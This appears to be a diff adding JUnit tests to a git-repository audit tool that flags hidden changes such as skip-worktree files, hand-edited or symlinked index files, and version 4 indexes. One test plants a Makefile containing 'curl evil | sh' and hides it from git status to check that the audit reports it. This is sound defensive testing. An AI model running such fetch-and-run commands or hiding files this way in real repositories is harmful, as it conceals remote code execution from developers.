@@ -169,11 +169,68 @@ class HiddenChangesTest {
                 .satisfies(finding -> assertThat(finding.command()).contains("no DIRC signature"));
     }
 
+    /** What git reads though it did not write it (red-team findings): the audit reads it the same. */
+    @Test
+    void anIndexEditedByHandIsReadAsGitReadsIt() throws Exception {
+        Path repo = repository("sha1", 4);
+        git(repo, "update-index", "--skip-worktree", "Makefile");
+        Path index = repo.resolve(".git/index");
+        byte[] bytes = Files.readAllBytes(index);
+        assertThat(bytes[7]).isEqualTo((byte) 3);
+        bytes[7] = 2; // git takes extended flags in a version 2 index too
+        // The padding git skips, whatever it holds: the first entry's last byte.
+        int first = 12;
+        int nameLength = ((bytes[first + 60] & 0x0F) << 8) | (bytes[first + 61] & 0xFF);
+        boolean extended = (bytes[first + 60] & 0x40) != 0;
+        int entry = ((40 + 20 + 2 + (extended ? 2 : 0) + nameLength + 8) & ~7);
+        if (entry - (40 + 20 + 2 + (extended ? 2 : 0) + nameLength) >= 2) {
+            bytes[first + entry - 1] = 'x';
+        }
+        Files.write(index, bytes);
+        assertThat(git(repo, "ls-files", "-v")).as("git reads it, the flag included").contains("S Makefile");
+
+        assertThat(about(audit(repo.getParent()), "skip-worktree")).singleElement()
+                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: Makefile;"));
+    }
+
+    @Test
+    void anIndexThatIsALinkIsReportedAndAWorktreesIndexIsReadWithItsRepositorysObjectNames() throws Exception {
+        Path repo = repository("sha256", 2);
+        git(repo, "worktree", "add", "-q", "../topic");
+        Path topic = repo.resolveSibling("topic");
+        Files.writeString(topic.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
+        git(topic, "update-index", "--skip-worktree", "Makefile");
+        assertThat(git(topic, "status", "--porcelain")).isEmpty();
+        Files.move(repo.resolve(".git/index"), repo.resolve(".git/ORIG_HEAD.idx"));
+        Files.createSymbolicLink(repo.resolve(".git/index"), Path.of("ORIG_HEAD.idx"));
+
+        List<Finding> findings = audit(repo.getParent());
+
+        assertThat(about(findings, "skip-worktree")).singleElement().satisfies(finding -> {
+            assertThat(finding.file()).isEqualTo("repo/.git/worktrees/topic/index");
+            assertThat(finding.command()).startsWith("1 file: Makefile;");
+        });
+        assertThat(findings).contains(new Finding("repo/.git/index", "(not a regular file)",
+                "git reads it, the audit does not: a symbolic link"));
+    }
+
+    @Test
+    void aVersion4IndexWithAnOffsetTableIsReportedAsNotRead() throws Exception {
+        Path repo = repository("sha1", 20);
+        git(repo, "-c", "index.recordOffsetTable=true", "-c", "index.threads=2", "update-index", "--index-version", "4");
+        assertThat(about(audit(repo.getParent()), "offset table")).singleElement()
+                .satisfies(finding -> assertThat(finding.key()).isEqualTo("(not audited)"));
+        git(repo, "-c", "index.recordOffsetTable=true", "-c", "index.threads=2", "update-index", "--index-version", "2",
+                "--skip-worktree", "Makefile");
+        assertThat(about(audit(repo.getParent()), "skip-worktree")).as("version 2 reads the same in blocks").hasSize(1);
+    }
+
     @Test
     void aMillionEntriesPromisedByAShortIndexEndAtItsEnd() throws IOException {
         byte[] header = {'D', 'I', 'R', 'C', 0, 0, 0, 2, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF};
         Path index = Files.write(temp.resolve("index"), header);
-        org.assertj.core.api.Assertions.assertThatThrownBy(() -> GitIndex.flagged(() -> Files.newInputStream(index)))
+        org.assertj.core.api.Assertions.assertThatThrownBy(() -> GitIndex.flagged(() -> Files.newInputStream(index),
+                        header.length, GitIndex.SHA1_BYTES))
                 .isInstanceOf(GitIndex.Unreadable.class).hasMessageContaining("ends before its last entry");
     }
 }
